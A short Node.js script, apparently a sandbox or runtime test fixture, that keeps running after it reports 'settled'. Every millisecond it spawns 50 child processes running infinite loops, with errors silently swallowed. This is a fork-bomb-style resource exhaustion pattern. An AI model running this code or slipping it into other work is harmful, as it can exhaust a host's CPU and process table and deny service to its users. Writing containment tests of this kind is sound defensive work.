// The script has settled, and what it left behind starts processes without end.
const { spawn } = require('node:child_process');
setInterval(() => {
  for (let n = 0; n < 50; n++) {
    try {
      spawn('/node', ['-e', 'for (;;);']).on('error', () => {});
    } catch {}
  }
}, 1);
('settled');
